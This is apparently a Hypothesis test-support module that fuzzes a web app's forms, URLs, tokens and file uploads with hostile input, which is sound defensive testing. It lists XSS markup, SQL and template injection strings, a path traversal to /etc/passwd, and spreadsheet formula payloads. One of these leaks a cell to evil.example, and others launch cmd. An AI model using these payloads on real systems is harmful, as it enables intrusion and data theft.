"""Hostile input: markup and formula payloads, control characters, long strings, odd numbers, bad files."""
from __future__ import annotations

import string

from hypothesis import strategies as st

# Markup that runs (or restyles the page) if a template ever prints it unescaped.
HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>body{display:none}",
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
]
# Cells a spreadsheet runs as formulas (OWASP CSV injection).
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
OTHER_PAYLOADS = ["{{ 7*7 }}", "{% raw %}", "%s%n%x", "'; DROP TABLE team; --", "\\", "../../etc/passwd",
                  "\u202eevil\u202c", "Zoë Ünïcødé 名前 اسم"]
PAYLOADS = HTML_PAYLOADS + FORMULA_PAYLOADS + OTHER_PAYLOADS
# Every C0 control (NUL included: refused everywhere with a 400, or a 422 for the phone's JSON), DEL,
# C1, and the Unicode line and paragraph separators, zero-width and direction marks.
CONTROLS = "".join(chr(c) for c in range(0, 32)) + "\x7f\x85\x9b\u2028\u2029\u200b\u200e\u202e\ufeff"
NUL = "\x00"

# Text a form can carry (no lone surrogates: they cannot be sent as UTF-8), NUL included.
_chars = st.characters(exclude_categories=("Cs",))
plain_text = st.text(_chars, max_size=40)
control_text = st.text(st.sampled_from(CONTROLS + "ab <>&\"'"), min_size=1, max_size=20)
long_text = st.builds(lambda unit, n: unit * n, st.sampled_from(["x", "é", "名", "<b>", "ab c", "=1"]),
                      st.integers(min_value=100, max_value=9000))
payload = st.sampled_from(PAYLOADS)
wrapped_payload = st.builds(lambda a, p, b: a + p + b, st.sampled_from(["", "Team ", "  "]), payload,
                            st.sampled_from(["", " x", "\t", "\r\n"]))


def hostile_text(max_size: int | None = None) -> st.SearchStrategy[str]:
    """Any text a person or an attacker might type into a field."""
    s = st.one_of(st.just(""), st.just(" "), payload, wrapped_payload, plain_text, control_text, long_text)
    return s if max_size is None else s.filter(lambda t: len(t) <= max_size)


def inert_text(max_size: int = 120) -> st.SearchStrategy[str]:
    """Text that a form should accept, carrying a payload: tests that it is shown inert."""
    return st.builds(lambda a, p, b: (a + p + b)[:max_size], st.sampled_from(["", "Team ", "x"]), payload,
                     st.text(st.sampled_from(string.ascii_letters + " .,-"), max_size=8))


# Numbers as a form carries them: in range, out of range, huge, negative, not numbers at all.
WEIRD_NUMBERS = ["", " ", "0", "-1", "1.5", "1e3", "1e400", "-1e400", "nan", "NaN", "inf", "-inf", "Infinity",
                 "0x10", "1_000", " 3 ", "３", "١٢", "99999999999999999999", "2147483648", "-2147483649",
                 "9223372036854775808", "1" * 400, "-" + "9" * 400, "<script>alert(1)</script>", "=1+1", "3\x01",
                 "3\x00"]
number_text = st.one_of(
    st.sampled_from(WEIRD_NUMBERS),
    st.integers(min_value=-(2 ** 70), max_value=2 ** 70).map(str),
    st.integers(min_value=-3, max_value=120).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)

# A field that may be missing from the request altogether.
MISSING = object()


def maybe_missing(strategy: st.SearchStrategy) -> st.SearchStrategy:
    return st.one_of(st.just(MISSING), strategy)


def form_data(fields: dict) -> st.SearchStrategy[dict]:
    """A dict of form fields from per-field strategies; MISSING fields are left out."""
    return st.fixed_dictionaries(fields).map(lambda d: {k: v for k, v in d.items() if v is not MISSING})


# Ids in URLs: huge, negative (which Werkzeug's int converter does not match) and not numbers.
HUGE_IDS = ["2147483648", "9223372036854775807", "9223372036854775808", "99999999999999999999", "1" * 60]
BAD_IDS = ["-1", "0", "abc", "1.5", "%20", "1e3", "<script>", "%3Cscript%3E", "１", "0x1", "01"]
url_id = st.one_of(st.sampled_from(HUGE_IDS + BAD_IDS), st.integers(min_value=-(2 ** 80), max_value=2 ** 80).map(str))
token_text = st.one_of(
    st.sampled_from(["", "x", "1-1-" + "A" * 32, "99999999999999-1-" + "A" * 32, "1-9999999-" + "A" * 32,
                     "abcdefghijkmnpqr-1-" + "A" * 32, "ABCDEFGHJKLMNPQR-1-" + "A" * 32, "K7M3QX9PA2-" + "A" * 16,
                     "<script>alert(1)</script>", "%00", "..%2F..%2F", "%FF%FE", "a" * 300]),
    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="/?#%"), max_size=80),
)


# --------------------------------------------------------------------------------------- files

def csv_cell(text: str) -> str:
    if any(ch in text for ch in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_text(rows) -> str:
    return "".join(",".join(csv_cell(str(c)) for c in row) + "\r\n" for row in rows)


ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"])


@st.composite
def encoded(draw, text: str) -> bytes:
    """`text` in some encoding (not all of them UTF-8), or with a stray invalid byte."""
    how = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "latin-1", "broken"]))
    if how == "broken":
        data = text.encode("utf-8")
        at = draw(st.integers(min_value=0, max_value=len(data)))
        return data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x80\x80"])) + data[at:]
    try:
        return text.encode(how)
    except UnicodeEncodeError:
        return text.encode("utf-8")


binary_junk = st.one_of(st.binary(max_size=200), st.sampled_from([
    b"", b"\xef\xbb\xbf", b"\x00" * 10, b"%PDF-1.7\n\x00\x01", b"PK\x03\x04\x14\x00", b"\x89PNG\r\n\x1a\n",
    b"\xff\xfe" + "team,table\n".encode("utf-16-le")]))
